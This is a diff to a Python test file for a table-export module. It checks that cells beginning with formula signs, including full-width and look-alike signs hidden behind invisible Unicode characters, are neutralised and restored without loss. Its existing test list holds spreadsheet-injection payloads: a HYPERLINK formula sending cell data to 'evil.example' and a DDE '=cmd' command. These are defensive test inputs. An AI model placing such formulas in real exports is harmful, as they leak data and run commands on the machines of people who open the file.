@@ -24,6 +24,14 @@ FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1+1",
     "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", "'=1", "''", "\x00=1",
 ]  # fmt: skip
+HIDDEN = [
+    "\u200b", "\ufeff", "\u00a0", " ", "\u2060", "\u200e", "\u202e", "\u00ad", "\u2003", "\u3000", "\u2028", "\u3164",
+    "\u2800", "\x0b", "\x1f", "\x7f", "\u180e", "\ufe0f", "\u034f", "\U000e0020", " \u200b\t\ufeff\u00a0",
+]  # fmt: skip
+LIKE_SIGNS = [
+    *"=+-@", *"＝＋－＠", *"﹦﹢﹣﹫", *"⁼⁺⁻", *"₌₊₋", "\u2212", "\u2010", "\u2011", "\u2012", "\u2013", "\u2014", "\u2015",
+    "\u02d7", "\u2796", "\u2795", "\u207b", "\ua78a", "\ufb29",
+]  # fmt: skip
 
 
 @pytest.fixture(scope="module")
@@ -73,7 +81,21 @@ def test_csv_and_parquet_say_the_same_and_every_row_leads_back_to_the_words(summ
             assert words == other[{"quotes": "text", "claims": "evidence", "events": "trigger"}[name]]
 
 
-@given(st.text())
+@pytest.mark.parametrize("sign", LIKE_SIGNS)
+@pytest.mark.parametrize("hidden", ["", *HIDDEN])
+def test_a_formula_is_seen_behind_what_shows_nothing_and_in_every_form_of_its_sign(hidden, sign):
+    cell = f"{hidden}{sign}1+1"
+
+    assert tables.disarmed(cell) == f"'{cell}"
+    assert tables.armed(f"'{cell}") == cell
+
+
+@pytest.mark.parametrize("cell", ["The fire", " 1 a", "“= no”", "é", "\u200b", "", "1-2", "a@b", "\u00a0x", 5, None])
+def test_other_cells_stay_as_they_are(cell):
+    assert tables.disarmed(cell) == cell
+
+
+@given(st.text(st.sampled_from("'=+-@ \u200b\ufeff\u00a0－a") | st.characters()))
 def test_disarming_a_cell_is_undone_without_loss(cell):
     assert tables.armed(tables.disarmed(cell)) == cell
     assert not tables.disarmed(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"))
